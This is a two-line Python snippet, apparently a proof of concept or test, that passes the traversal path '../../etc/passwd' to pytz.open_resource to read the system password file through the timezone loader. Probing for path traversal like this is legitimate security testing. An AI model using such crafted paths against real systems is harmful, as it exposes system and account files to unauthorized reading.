import pytz
pytz.open_resource("../../etc/passwd")
